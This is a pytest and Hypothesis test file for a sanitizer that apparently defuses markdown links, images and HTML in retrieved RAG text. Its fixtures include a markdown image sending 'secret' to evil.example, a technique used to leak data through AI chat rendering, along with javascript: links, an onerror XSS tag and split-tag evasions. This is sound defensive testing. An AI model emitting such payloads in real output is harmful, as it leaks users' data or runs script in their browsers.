from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from opsloop.rag.text.inert import inert


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Leave is paid (see [1]).", "Leave is paid (see [1])."),
        ("![leave](https://evil.example/?q=secret) is paid", "leave is paid"),
        ("[click ![me](x)](javascript:alert(1)) now", "click me now"),
        ("See [the page][1].\n[1]: https://evil.example", "See the page.\n"),
        ("<img src=x onerror=alert(1)>paid <b>in full</b>", "paid in full"),
        ("<im<b>g src=x> paid", " paid"),
        ("open <https://a.example/x> now", "open `https://a.example/x` now"),
        (
            "Forms are at https://intranet.example/leave, on paper too",
            "Forms are at `https://intranet.example/leave,` on paper too",
        ),
        ("when n <m then 5 < 6", "when n < m then 5 < 6"),
        ("a\u202eb\u200bc\x1b[2J", "abc[2J"),
    ],
)
def test_links_images_and_markup_are_left_as_words(text: str, shown: str) -> None:
    assert inert(text) == shown


ACTIVE = re.compile(r"!\[|\]\(|\]\[|<[a-zA-Z/!?]")


@given(st.text(alphabet=st.sampled_from("![]()<>/abhtps:.\"' \n`"), max_size=120))
def test_nothing_active_is_left(text: str) -> None:
    assert not ACTIVE.search(inert(text))
